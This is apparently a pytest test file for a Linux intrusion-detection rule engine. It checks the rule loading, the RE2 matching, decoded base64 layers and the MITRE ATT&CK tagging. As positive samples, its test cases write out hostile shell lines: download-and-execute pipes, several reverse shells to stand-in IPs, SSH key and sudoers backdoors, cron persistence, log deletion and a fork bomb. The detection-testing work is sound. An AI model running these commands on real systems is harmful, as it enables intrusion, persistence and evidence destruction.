"""Rule model, loader, default rule set (positive and near-miss per rule) and the rule engine."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from processors.detect.rules import (
    Rule,
    RuleEngine,
    decoded_texts,
    default_rules_path,
    load_rules,
    reference_rules_path,
)
from processors.errors import ConfigError
from schemas import schema_for

DETECTIONS = jsonschema.Draft202012Validator(schema_for("detections"))
DEFAULT = {rule.id: rule for rule in load_rules(default_rules_path())}

# rule id -> (positive command line, near-miss command line)
CASES: dict[str, tuple[str, str]] = {
    "SS-LNX-001": ("curl -fsSL http://198.51.100.9/i.sh | sudo bash", "curl -o install.sh http://198.51.100.9/i.sh"),
    "SS-LNX-002": ("echo Y3VybCBldmlsLnNo | base64 -d | sh", "base64 -d payload.b64 > payload.bin"),
    "SS-LNX-003": ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "cat /dev/tty"),
    "SS-LNX-004": ("nc -e /bin/sh 203.0.113.5 4444", "nc -zv 203.0.113.5 22"),
    "SS-LNX-005": (
        "socat tcp:203.0.113.5:4444 exec:'bash -li',pty,stderr",
        "socat TCP-LISTEN:8080,fork TCP:localhost:80",
    ),
    "SS-LNX-006": (
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));os.dup2(s.fileno(),0)'",
        "python3 -c 'import socket; print(socket.gethostname())'",
    ),
    "SS-LNX-007": ("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", "cat /root/.ssh/known_hosts"),
    "SS-LNX-008": ("rm -rf /var/log/auth.log", "tail -f /var/log/syslog"),
    "SS-LNX-009": ("unset HISTFILE", "history | grep ssh"),
    "SS-LNX-010": (":(){ :|:& };:", ":(){ echo hi; }"),
    "SS-LNX-011": ("/usr/sbin/useradd -m -s /bin/bash backdoor", "grep useradd.log /var/log"),
    "SS-LNX-012": ("echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "cat /etc/sudoers"),
    "SS-LNX-013": ("(crontab -l; echo '* * * * * /tmp/x') | crontab -", "crontab -l"),
}
SYSLOG_CASES: dict[str, tuple[str, str]] = {
    "SS-LNX-014": ("/bin/bash", "/bin/bash /opt/scripts/backup.sh"),
}


def _auditd_doc(command: str, **extra: Any) -> dict[str, Any]:
    return {
        "@timestamp": "2019-07-10T15:13:25.000Z",
        "event": {"id": "a" * 32, "kind": "event", "module": "auditd", "action": "execve"},
        "host": {"name": "h"},
        "process": {"pid": 10, "command_line": command, "parent": {"pid": 1, "name": "bash"}},
        "user": {"name": "root"},
        **extra,
    }


def _syslog_doc(command: str) -> dict[str, Any]:
    return {
        "@timestamp": "2019-07-10T15:13:25.000Z",
        "message": f"peteb : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}",
        "event": {"id": "b" * 32, "kind": "event", "module": "syslog", "action": "sudo_command"},
        "host": {"name": "h"},
        "secstream": {"syslog": {"command": command}},
    }


class TestDefaultRules:
    def test_every_rule_has_a_case(self) -> None:
        """Every shipped rule has a positive and a near-miss case here."""
        assert set(DEFAULT) == set(CASES) | set(SYSLOG_CASES)

    @pytest.mark.parametrize("rule_id", sorted(CASES))
    def test_positive_and_near_miss(self, rule_id: str) -> None:
        """The rule matches its positive command line and not its near miss."""
        positive, negative = CASES[rule_id]
        rule = DEFAULT[rule_id]
        assert rule.search(positive), positive
        assert not rule.search(negative), negative

    @pytest.mark.parametrize("rule_id", sorted(SYSLOG_CASES))
    def test_syslog_only_rules(self, rule_id: str) -> None:
        """Syslog-only rules match the sudo command and not a near miss, and never auditd events."""
        positive, negative = SYSLOG_CASES[rule_id]
        engine = RuleEngine([DEFAULT[rule_id]])
        assert engine.match(_syslog_doc(positive))
        assert not engine.match(_syslog_doc(negative))
        assert not engine.match(_auditd_doc(positive))

    def test_all_compiled_with_re2(self) -> None:
        """The default rules are all RE2 patterns (linear time)."""
        assert {type(rule.regex).__module__.split(".")[0] for rule in DEFAULT.values()} == {"re2"}

    def test_syslog_messages_of_iam_events(self) -> None:
        """useradd and usermod syslog messages trigger the account and sudoers rules."""
        engine = RuleEngine(DEFAULT.values())
        doc = _syslog_doc("x")
        del doc["secstream"]["syslog"]
        doc["message"] = "new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor, shell=/bin/bash"
        assert [d["rule"]["id"] for d in engine.match(doc)] == ["SS-LNX-011"]
        doc["message"] = "add 'backdoor' to group 'sudo'"
        assert [d["rule"]["id"] for d in engine.match(doc)] == ["SS-LNX-012"]


class TestLoader:
    def test_reference_format(self) -> None:
        """msticpy's rule file loads as five syslog rules with generated ids."""
        rules = load_rules(reference_rules_path())
        assert [r.id for r in rules] == [f"syslog-{i:03d}" for i in range(1, 6)]
        assert all(r.log_types == ("syslog",) for r in rules)
        assert json.loads(reference_rules_path().read_text())["Syslog"][4] == ".*/bin/bash.*"

    def test_json_new_format_and_directory(self, tmp_path: Path) -> None:
        """The secstream JSON format loads, and a directory loads its TOML files only."""
        rule = {
            "id": "X-1",
            "name": "x",
            "severity": 21,
            "technique": "T1059",
            "pattern": "evil",
            "log_types": ["auditd"],
        }
        (tmp_path / "a.json").write_text(json.dumps({"rules": [rule]}))
        assert load_rules(tmp_path / "a.json")[0].technique == ("T1059",)
        assert load_rules(tmp_path) == []
        assert len(load_rules(default_rules_path())) == len(DEFAULT)

    @pytest.mark.parametrize(
        ("change", "key"),
        [
            ({"severity": 101}, "severity"),
            ({"technique": ["TA0001"]}, "technique"),
            ({"pattern": "("}, "pattern"),
            ({"colour": "red"}, "X-1"),
            ({"log_types": []}, "log_types"),
        ],
    )
    def test_invalid_rules_are_config_errors(self, tmp_path: Path, change: dict[str, Any], key: str) -> None:
        """Bad severities, techniques, patterns, unknown keys and empty log types raise ConfigError."""
        rule = {"id": "X-1", "name": "x", "severity": 21, "technique": ["T1059"], "pattern": "evil", **change}
        (tmp_path / "r.json").write_text(json.dumps({"rules": [rule]}))
        with pytest.raises(ConfigError) as caught:
            load_rules(tmp_path / "r.json")
        assert key in str(caught.value)

    def test_duplicate_ids_and_garbage(self, tmp_path: Path) -> None:
        """Duplicate ids, unparsable files and missing files raise ConfigError."""
        rule = {"id": "X-1", "name": "x", "severity": 21, "pattern": "evil"}
        (tmp_path / "d.json").write_text(json.dumps({"rules": [rule, rule]}))
        (tmp_path / "g.toml").write_text("not = [toml")
        for name in ("d.json", "g.toml", "missing.json"):
            with pytest.raises(ConfigError):
                load_rules(tmp_path / name)

    def test_python_re_fallback(self) -> None:
        """A pattern RE2 rejects (back-reference) still works through Python's re."""
        rule = Rule(id="B", name="b", severity=1, technique=(), pattern=r"(\w+)\(\)\{ \1\|\1& \};\1")
        assert rule.search("bomb(){ bomb|bomb& };bomb")


class TestEngine:
    def test_detection_document(self) -> None:
        """A match yields a valid detection with rule, severity, technique, evidence, lineage and IoCs."""
        doc = _auditd_doc("curl http://198.51.100.9/x | sh", secstream={"iocs": {"url": ["http://198.51.100.9/x"]}})
        (hit,) = RuleEngine([DEFAULT["SS-LNX-001"]]).match(doc)
        DETECTIONS.validate(hit)
        assert hit["rule"] == {
            "id": "SS-LNX-001",
            "name": "Download piped to a shell",
            "version": "1",
            "description": DEFAULT["SS-LNX-001"].description,
            "ruleset": "secstream",
        }
        assert hit["event"]["severity"] == 73 and hit["event"]["risk_score"] == 73.0
        assert hit["event"]["category"] == ["intrusion_detection"] and hit["event"]["dataset"] == "secstream.alert"
        technique = hit["threat"]["technique"]
        assert technique["id"] == ["T1105", "T1059"]
        assert technique["name"] == ["Ingress Tool Transfer", "Command and Scripting Interpreter"]
        assert technique["subtechnique"] == {
            "id": ["T1059.004"],
            "name": ["Unix Shell"],
            "reference": ["https://attack.mitre.org/techniques/T1059/004/"],
        }
        assert hit["threat"]["tactic"]["name"] == ["Command and Control", "Execution"]
        assert hit["secstream"]["evidence"]["event_ids"] == ["a" * 32]
        assert hit["process"]["parent"]["name"] == "bash"
        assert hit["secstream"]["iocs"] == {"url": ["http://198.51.100.9/x"]}
        assert hit["secstream"]["rule_match"]["field"] == "process.command_line"
        assert RuleEngine([DEFAULT["SS-LNX-001"]]).match(doc)[0]["event"]["id"] == hit["event"]["id"]

    def test_decoded_layers_are_searched(self) -> None:
        """A rule matches text found only in a decoded base64 layer, and says so."""
        doc = _auditd_doc("echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0IDA+JjE= | base64 -d > /tmp/x")
        assert not RuleEngine(DEFAULT.values()).match(doc)
        doc["secstream"] = {"decoded": [{"text": "bash -i >& /dev/tcp/1.2.3.4/44 0>&1"}, {"bytes": "00"}]}
        (hit,) = RuleEngine(DEFAULT.values()).match(doc)
        assert hit["rule"]["id"] == "SS-LNX-003"
        assert hit["secstream"]["rule_match"]["field"] == "secstream.decoded[0]"

    def test_log_type_scoping(self) -> None:
        """Rules only run on documents of their log types; unknown modules get nothing."""
        engine = RuleEngine(load_rules(reference_rules_path()))
        assert engine.match(_syslog_doc("/bin/bash"))
        assert not engine.match(_auditd_doc("/bin/bash"))
        assert not engine.match({"event": {"module": "other"}})


# fragments of every positive and near-miss case, so generated texts match several rules at once
FRAGMENTS = sorted(
    {part for pair in (*CASES.values(), *SYSLOG_CASES.values()) for text in pair for part in text.split(" ")}
    | {text for pair in (*CASES.values(), *SYSLOG_CASES.values()) for text in pair}
    | {" ", " | ", "; ", "\n", "/bin/bash", "new user: name=x"}
)
fragment_text = st.lists(st.sampled_from(FRAGMENTS), max_size=12).map(" ".join)
MIXED_RULES = [
    *DEFAULT.values(),
    Rule(id="BACKREF", name="b", severity=1, technique=(), pattern=r"(\w+)\(\)\{ \1\|\1& \};\1"),
    Rule(id="NODEC", name="n", severity=1, technique=(), pattern=r"/dev/tcp/", match_decoded=False),
    Rule(id="MSG", name="m", severity=1, technique=(), pattern=r"useradd|crontab", fields=("message",)),
]


def _naive(doc: dict[str, Any], rules: list[Rule]) -> list[tuple[str, str, str]]:
    """Rule-by-rule reference: fields of the rule in order, then the decoded layers; first match wins."""
    module = doc["event"]["module"]
    decoded = [(f"secstream.decoded[{i}]", text) for i, text in enumerate(decoded_texts(doc))]
    hits = []
    for rule in rules:
        if module not in rule.log_types:
            continue
        texts = []
        for name in rule.fields_for(module):
            value: Any = doc
            for part in name.split("."):
                value = value.get(part) if isinstance(value, dict) else None
            if isinstance(value, str):
                texts.append((name, value))
        if rule.match_decoded:
            texts += decoded
        for where, text in texts:
            if text and rule.search(text):
                hits.append((rule.id, where, text))
                break
    return hits


class TestEngineOnePass:
    """The combined one-pass matcher gives exactly the rule-by-rule answer."""

    @settings(max_examples=200, deadline=None)
    @given(
        st.sampled_from(["auditd", "syslog"]),
        fragment_text,
        fragment_text,
        fragment_text,
        st.lists(st.one_of(fragment_text, st.just("")), max_size=3),
    )
    def test_same_hits_as_rule_by_rule(
        self, module: str, command: str, message: str, syslog_command: str, layers: list[str]
    ) -> None:
        """Rules, fields and decoded layers are reported as a per-rule search reports them."""
        doc: dict[str, Any] = {
            "@timestamp": "2019-07-10T15:13:25.000Z",
            "event": {"id": "e", "module": module},
            "host": {"name": "h"},
            "process": {"command_line": command},
            "message": message,
            "secstream": {"syslog": {"command": syslog_command}, "decoded": [{"text": text} for text in layers]},
        }
        engine = RuleEngine(MIXED_RULES)
        got = [
            (d["rule"]["id"], d["secstream"]["rule_match"]["field"], d["secstream"]["rule_match"]["value"])
            for d in engine.match(doc)
        ]
        assert got == _naive(doc, MIXED_RULES)
        texts = [("process.command_line", command), *((f"secstream.decoded[{i}]", t) for i, t in enumerate(layers))]
        expected = []
        for rule in MIXED_RULES:
            if module in rule.log_types:
                for where, text in texts:
                    if where.startswith("secstream.decoded") and not rule.match_decoded:
                        continue
                    if rule.search(text):
                        expected.append((rule.id, where))
                        break
        assert [(rule.id, where) for rule, where, _ in engine.matching_rules(texts, module)] == expected

    def test_layer_index_counts_empty_layers(self) -> None:
        """A match in the third text layer is reported as decoded[2] even when an earlier layer is empty."""
        doc = _auditd_doc("true", secstream={"decoded": [{"text": "x"}, {"text": ""}, {"text": "unset HISTFILE"}]})
        (hit,) = RuleEngine(DEFAULT.values()).match(doc)
        assert hit["secstream"]["rule_match"]["field"] == "secstream.decoded[2]"

    def test_fallback_and_set_rules_together(self) -> None:
        """A back-reference rule (Python re) and RE2 rules both fire on one command line, in rule order."""
        engine = RuleEngine([MIXED_RULES[-3], DEFAULT["SS-LNX-009"]])
        hits = engine.match(_auditd_doc("bomb(){ bomb|bomb& };bomb; unset HISTFILE"))
        assert [hit["rule"]["id"] for hit in hits] == ["BACKREF", "SS-LNX-009"]
